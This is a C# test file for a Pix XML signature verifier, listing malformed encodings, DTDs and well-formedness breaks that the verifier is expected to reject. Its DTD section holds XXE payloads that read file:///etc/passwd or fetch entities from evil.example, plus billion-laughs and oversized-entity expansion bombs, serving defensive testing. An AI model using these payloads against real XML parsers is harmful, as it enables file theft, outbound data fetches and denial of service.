using System.Text;
using static Pix.Signatures.Received.VerificationRule;

namespace Pix.Signatures.Tests.Attacks;

/// <summary>Bytes that are no XML, another XML for other readers, or XML that makes readers fetch and expand.</summary>
internal static class EncodingAttacks
{
    public static IReadOnlyList<Attack> All { get; } = [.. Encodings(), .. Dtds(), .. Malformed()];

    private static AttackList Encodings()
    {
        var list = new AttackList("encoding");
        list.AddBoth("UTF-16, little-endian, with mark", p => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Declared(p, "UTF-16"))], NotUtf8);
        list.AddBoth("UTF-16, big-endian, with mark", p => [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes(Declared(p, "UTF-16"))], NotUtf8);
        list.AddBoth("UTF-16, little-endian, without mark", p => Encoding.Unicode.GetBytes(Declared(p, "UTF-16")), NotUtf8);
        list.AddBoth("UTF-16, big-endian, without mark", p => Encoding.BigEndianUnicode.GetBytes(Declared(p, "UTF-16")), NotUtf8);
        list.AddBoth("UTF-32, with mark", p => [0xFF, 0xFE, 0, 0, .. Encoding.UTF32.GetBytes(Declared(p, "UTF-32"))], NotUtf8);
        list.AddBoth("UTF-8 that says UTF-16", p => Declared(p, "UTF-16").Utf8(), NotUtf8);
        list.AddBoth("UTF-8 that says ISO-8859-1", p => Declared(p, "ISO-8859-1").Utf8(), NotUtf8);
        list.AddBoth("UTF-8 that says UTF-7", p => Declared(p, "UTF-7").Utf8(), NotUtf8);
        list.AddBoth("ISO-8859-1", p => Encoding.Latin1.GetBytes(Declared(p, "ISO-8859-1").Replace("0003", "é003", StringComparison.Ordinal).Replace("PHONE", "é", StringComparison.Ordinal)), NotUtf8);
        list.AddBoth("overlong form of '<'", p => Bytes(p, [0xC0, 0xBC]), NotUtf8);
        list.AddBoth("overlong form of '/' in three bytes", p => Bytes(p, [0xE0, 0x80, 0xAF]), NotUtf8);
        list.AddBoth("overlong NUL", p => Bytes(p, [0xC0, 0x80]), NotUtf8);
        list.AddBoth("stray continuation byte", p => Bytes(p, [0x80]), NotUtf8);
        list.AddBoth("byte FF", p => Bytes(p, [0xFF]), NotUtf8);
        list.AddBoth("surrogates as bytes", p => Bytes(p, [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80]), NotUtf8);
        list.AddBoth("beyond Unicode", p => Bytes(p, [0xF4, 0x90, 0x80, 0x80]), NotUtf8);
        list.AddBoth("cut character", p => Bytes(p, [0xE2, 0x82]), NotUtf8);
        list.AddBoth("two byte order marks", p => [0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF, .. Genuine.Of(p).Utf8()], NotWellFormed);
        list.AddBoth("NUL in a value", p => Bytes(p, [0]), NotWellFormed);
        list.AddBoth("control character in a value", p => Bytes(p, [8]), NotWellFormed);
        list.AddBoth("U+FFFF in a value", p => Bytes(p, [0xEF, 0xBF, 0xBF]), NotWellFormed);
        return list;
    }

    private static AttackList Dtds()
    {
        var list = new AttackList("document type");
        Dtd(list, "empty", "<!DOCTYPE x>");
        Dtd(list, "internal entity", "<!DOCTYPE x [<!ENTITY e \"evil\">]>");
        Dtd(list, "entity from a file", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>");
        Dtd(list, "entity from a host", "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">");
        Dtd(list, "parameter entity", "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/x\"> %p;]>");
        Dtd(list, "attribute declared an ID", "<!DOCTYPE x [<!ATTLIST Entry Key ID #REQUIRED>]>");
        Dtd(list, "attribute by default", "<!DOCTYPE x [<!ATTLIST Document a CDATA 'evil'>]>");
        Dtd(list, "billion laughs", BillionLaughs());
        Dtd(list, "one entity a million times", $"<!DOCTYPE x [<!ENTITY a \"{new string('a', 100_000)}\">]>");
        list.EditBoth("document type after the root", d => d + "<!DOCTYPE x>", DtdForbidden);
        list.EditBoth("document type in lower case", d => d.Insert(d.IndexOf("?>", StringComparison.Ordinal) + 2, "<!doctype x>"), NotWellFormed);
        list.EditBoth("entity nobody declared", d => d.Swap("0003", "&e;0003", "PHONE", "&e;PHONE"), NotWellFormed);
        return list;
    }

    private static AttackList Malformed()
    {
        var list = new AttackList("well-formedness");
        list.AddBoth("nothing at all", _ => [], NotWellFormed);
        list.AddBoth("white space only", _ => "  \n"u8.ToArray(), NotWellFormed);
        list.AddBoth("byte order mark only", _ => [0xEF, 0xBB, 0xBF], NotWellFormed);
        list.AddBoth("a number", _ => "42"u8.ToArray(), NotWellFormed);
        list.AddBoth("JSON", _ => "{\"a\":\"<b>\"}"u8.ToArray(), NotWellFormed);
        list.EditBoth("two documents, one after the other", d => d + d[d.IndexOf("?>\n", StringComparison.Ordinal)..][3..], NotWellFormed);
        list.EditBoth("text after the root", d => d + "x", NotWellFormed);
        list.EditBoth("text before the root", d => d.Insert(d.IndexOf("?>", StringComparison.Ordinal) + 2, "x"), NotWellFormed);
        list.EditBoth("XML declaration after a space", d => " " + d, NotWellFormed);
        list.EditBoth("XML declaration twice", d => d.Insert(d.IndexOf("?>", StringComparison.Ordinal) + 2, "<?xml version=\"1.0\"?>"), NotWellFormed);
        list.EditBoth("XML 1.1", d => d.Swap("<?xml version=\"1.0\"", "<?xml version=\"1.1\""), NotWellFormed);
        list.EditBoth("XML version 1.0 with something after it", d => d.Swap("<?xml version=\"1.0\"", "<?xml version=\"1.0A\""), NotWellFormed);
        list.EditBoth("XML version 1.9", d => d.Swap("<?xml version=\"1.0\"", "<?xml version=\"1.9\""), NotWellFormed);
        list.EditBoth("end tag missing", d => d.Swap("</Envelope>", "", "</GetEntryResponse>", ""), NotWellFormed);
        list.EditBoth("end tag of another name", d => d.Swap("</Document>", "</Documents>", "</Entry>", "</Entri>"), NotWellFormed);
        list.EditBoth("end tag of another case", d => d.Swap("</Document>", "</document>", "</Entry>", "</entry>"), NotWellFormed);
        list.EditBoth("attribute twice", d => d.Swap("Ccy=\"BRL\"", "Ccy=\"BRL\" Ccy=\"BRL\"", "Role=\"X\"", "Role=\"X\" Role=\"X\""), NotWellFormed);
        list.EditBoth("attribute twice by two prefixes", d => d.Swap("Ccy=\"BRL\"", "xmlns:a=\"urn:a\" xmlns:b=\"urn:a\" a:x=\"\" b:x=\"\"", "Role=\"X\"", "xmlns:a=\"urn:a\" xmlns:b=\"urn:a\" a:x=\"\" b:x=\"\""), NotWellFormed);
        list.EditBoth("prefix nobody declared", d => d.Swap("<Amt ", "<z:Amt ", "<Owner ", "<z:Owner "), NotWellFormed);
        list.EditBoth("attribute without quotes", d => d.Swap("\"BRL\"", "BRL", "\"X\"", "X"), NotWellFormed);
        list.EditBoth("'<' in an attribute", d => d.Swap("\"BRL\"", "\"<\"", "\"X\"", "\"<\""), NotWellFormed);
        list.EditBoth("']]>' in text", d => d.Swap("10.00", "]]>", "PHONE", "]]>"), NotWellFormed);
        list.EditBoth("'--' in a comment", d => d.Swap("10.00", "<!-- -- -->", "PHONE", "<!-- -- -->"), NotWellFormed);
        list.EditBoth("reference to NUL", d => d.Swap("10.00", "&#0;", "PHONE", "&#0;"), NotWellFormed);
        list.EditBoth("reference to a surrogate", d => d.Swap("10.00", "&#xD800;", "PHONE", "&#xD800;"), NotWellFormed);
        list.EditBoth("reference to U+FFFE", d => d.Swap("10.00", "&#xFFFE;", "PHONE", "&#xFFFE;"), NotWellFormed);
        list.EditBoth("reference beyond Unicode", d => d.Swap("10.00", "&#x110000;", "PHONE", "&#x110000;"), NotWellFormed);
        list.EditBoth("reference to 2 to the 32 plus 65", d => d.Swap("10.00", "&#4294967361;", "PHONE", "&#4294967361;"), NotWellFormed);
        list.EditBoth("prefix xml for another namespace", d => d.Swap("<Amt ", "<Amt xmlns:xml=\"urn:evil\" ", "<Owner ", "<Owner xmlns:xml=\"urn:evil\" "), NotWellFormed);
        list.EditBoth("prefix taken away", d => d.Swap("<Amt ", "<Amt xmlns:p=\"\" ", "<Owner ", "<Owner xmlns:p=\"\" "), NotWellFormed);
        list.EditBoth("processing instruction named xml", d => d.Swap("10.00", "<?xml x?>", "PHONE", "<?xml x?>"), NotWellFormed);
        list.EditBoth("comment that does not end", d => d + "<!-- ", NotWellFormed);
        list.EditBoth("relative namespace name", d => d.Swap("<Amt ", "<Amt xmlns:p=\"../x\" ", "<Owner ", "<Owner xmlns:p=\"../x\" "), RelativeNamespace);
        list.Edit(SignatureProfile.Spi, "relative namespace name on Envelope", d => d.Swap("<Envelope ", "<Envelope xmlns:p=\"x\" "), RelativeNamespace);
        list.EditBoth("relative namespace name in the signature", d => d.Swap("<ds:SignatureValue>", "<ds:SignatureValue xmlns:p=\"x\">"), RelativeNamespace);
        return list;
    }

    private static string Declared(SignatureProfile profile, string encoding) => Genuine.Of(profile).Swap("encoding=\"UTF-8\"", $"encoding=\"{encoding}\"");

    private static byte[] Bytes(SignatureProfile profile, byte[] inserted)
    {
        var document = Genuine.Of(profile);
        var at = document.IndexOf(profile == SignatureProfile.Spi ? "10.00" : "PHONE", StringComparison.Ordinal);
        return [.. document[..at].Utf8(), .. inserted, .. document[at..].Utf8()];
    }

    private static void Dtd(AttackList list, string name, string dtd) =>
        list.EditBoth($"document type: {name}", d => d.Insert(d.IndexOf("?>", StringComparison.Ordinal) + 2, dtd), DtdForbidden);

    private static string BillionLaughs()
    {
        var entities = Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">");
        return $"<!DOCTYPE x [<!ENTITY l0 \"lol\">{string.Concat(entities)}]>";
    }

    // One text for SPI, another for DICT: exactly one of them occurs in a document.
    private static string Swap(this string document, string spi, string withSpi, string dict, string withDict) =>
        document.Contains("<Envelope ", StringComparison.Ordinal)
            ? document[..document.LastIndexOf(spi, StringComparison.Ordinal)] + withSpi + document[(document.LastIndexOf(spi, StringComparison.Ordinal) + spi.Length)..]
            : document[..document.LastIndexOf(dict, StringComparison.Ordinal)] + withDict + document[(document.LastIndexOf(dict, StringComparison.Ordinal) + dict.Length)..];
}
